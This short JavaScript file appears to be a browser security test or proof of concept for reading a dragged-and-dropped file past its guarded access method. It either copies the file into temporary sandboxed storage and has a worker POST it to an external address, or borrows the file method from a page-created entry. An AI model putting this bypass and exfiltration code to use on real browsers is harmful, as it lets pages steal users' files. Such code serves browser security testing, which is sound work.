// Reads a dropped entry past its guarded method: by a copy in the page's own storage, or with the method of an entry of its own.
const way = location.pathname.split('.')[1];
const source = `onmessage = ({ data }) => {
  const { root } = webkitRequestFileSystemSync(TEMPORARY, 1e8);
  fetch(data, { method: 'POST', body: root.getFile('copy', {}).file() });
};`;
const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
let system = null;
let method = null;
webkitRequestFileSystem(TEMPORARY, 1e8, (given) => {
  system = given;
  given.root.getFile('own', { create: true }, (entry) => {
    method = Object.getPrototypeOf(entry).file;
    Object.defineProperty(Object.getPrototypeOf(Object.getPrototypeOf(entry)), 'length', { value: 0 });
    say('ready');
  }, () => say('ready'));
}, () => say('ready'));
const ways = {
  copy: (entry) => entry.copyTo(system.root, 'copy', () => worker.postMessage(`${address}&name=x`)),
  method: (entry) => method.call(entry, take),
};
addEventListener('drop', (event) => { ways[way](event.dataTransfer.items[0].webkitGetAsEntry()); });
